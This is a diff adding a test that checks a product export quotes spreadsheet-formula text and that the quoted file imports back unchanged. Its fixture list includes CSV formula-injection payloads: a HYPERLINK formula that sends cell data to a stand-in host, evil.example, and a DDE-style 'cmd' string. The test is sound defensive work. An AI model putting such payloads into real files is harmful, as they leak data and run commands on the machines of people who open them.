@@ -167,3 +167,46 @@ def test_one_pass_lists_the_unreadable_rows_and_the_rule_breaking_ones_in_row_or
     found = [(e["row"], e["column"]) for e in response.get_json()["errors"]]
     assert found == [(3, "price"), (4, "weaving"), (5, "name")]
     assert "EN-1" not in products(db, booth.exhibitor.id)
+
+
+# Texts that a spreadsheet would run as a formula, and texts that begin with a quote.
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+62 812 555",
+    "-2+3",
+    "'=already quoted",
+    "''two quotes",
+    "'s Gravenhage",
+]
+
+
+def test_an_export_quotes_formula_like_text_and_imports_back_unchanged(client, db, booth):
+    for number, name in enumerate(FORMULA_LIKE):
+        factories.make_product(
+            booth.exhibitor, booth.manager, sku=f"F-{number}", name=name, category="painting",
+            description="=1+1", attributes={"artist": "@Made", "medium": "-", "year": 2019},
+        )  # fmt: skip
+    headers = factories.auth_headers(client, booth.manager)
+    exported = client.get(
+        f"/api/v1/products/export.csv?exhibitor_id={booth.exhibitor.id}", headers=headers
+    ).get_data(as_text=True)
+    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert [rows[f"F-{n}"]["name"] for n in range(len(FORMULA_LIKE))] == [
+        "'" + name for name in FORMULA_LIKE[:6]
+    ] + ["'s Gravenhage"]
+    assert rows["F-0"]["description"] == "'=1+1"
+    assert (rows["F-0"]["artist"], rows["F-0"]["medium"]) == ("'@Made", "'-")
+    assert rows["F-0"]["year"] == "2019" and rows["F-0"]["price"] == "100000"
+
+    # Imported again: nothing changes.
+    again = upload(client, booth.manager, booth.exhibitor.id, exported)
+    assert again.get_json() == {"created": 0, "updated": 0, "errors": []}
+    # Imported into another booth: the same texts, not the quoted ones.
+    other = factories.Booth(booth.exhibitor.event, "C07")
+    created = upload(client, other.manager, other.exhibitor.id, exported)
+    assert created.get_json()["created"] == len(FORMULA_LIKE) + 2
+    made = products(db, other.exhibitor.id)
+    assert [made[f"F-{n}"].name for n in range(len(FORMULA_LIKE))] == FORMULA_LIKE
+    assert made["F-0"].description == "=1+1"
+    assert made["F-0"].attributes == {"artist": "@Made", "medium": "-", "year": 2019}
